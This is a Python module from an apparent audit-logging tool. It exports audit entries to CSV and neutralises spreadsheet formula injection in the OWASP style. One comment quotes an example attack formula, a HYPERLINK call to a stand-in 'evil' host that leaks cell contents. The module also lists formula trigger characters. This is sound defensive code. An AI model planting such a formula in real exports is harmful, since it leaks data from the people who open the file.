"""CSV export: entries only, one row each, for spreadsheets (format in __init__)."""

from __future__ import annotations

from signoff.core.audit import AuditEntry, format_time
from signoff.export.lines import ENTRY_FIELDS

CSV_COLUMNS = ENTRY_FIELDS
# A spreadsheet runs a cell that starts with one of these as a formula: an agent-chosen
# request id `=HYPERLINK("https://evil/?"&A1)` would leak or run on the auditor's machine.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTES = (",", '"', "\r", "\n")


def neutralise(cell: str) -> str:
    """A cell a spreadsheet shows as text: a formula trigger gets a leading `'` (OWASP)."""
    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell


def _cell(value: str) -> str:
    safe = neutralise(value)
    # RFC 4180 quoting (what the csv module's QUOTE_MINIMAL does), and OWASP's: a neutralised
    # cell is always quoted.
    if safe is not value or any(c in value for c in _NEEDS_QUOTES):
        return '"' + safe.replace('"', '""') + '"'
    return value


def _encode(row: list[str] | tuple[str, ...]) -> bytes:
    return (",".join(_cell(v) for v in row) + "\r\n").encode("utf-8")


def csv_header() -> bytes:
    """The header row: the column names in `CSV_COLUMNS` order."""
    return _encode(CSV_COLUMNS)


def csv_row(entry: AuditEntry) -> bytes:
    """One entry as a CSV row; rules joined by spaces, payload as canonical JSON text."""
    return _encode(
        [
            str(entry.seq),
            format_time(entry.time),
            entry.type,
            entry.actor,
            entry.request_id,
            entry.decision_id,
            entry.review_id,
            entry.action_name,
            entry.outcome,
            entry.principal,
            entry.reviewer,
            entry.reviewer_group,
            entry.review_state,
            " ".join(entry.rules),
            entry.policy_version,
            entry.payload_json,
            entry.prev_hash,
            entry.hash,
        ]
    )
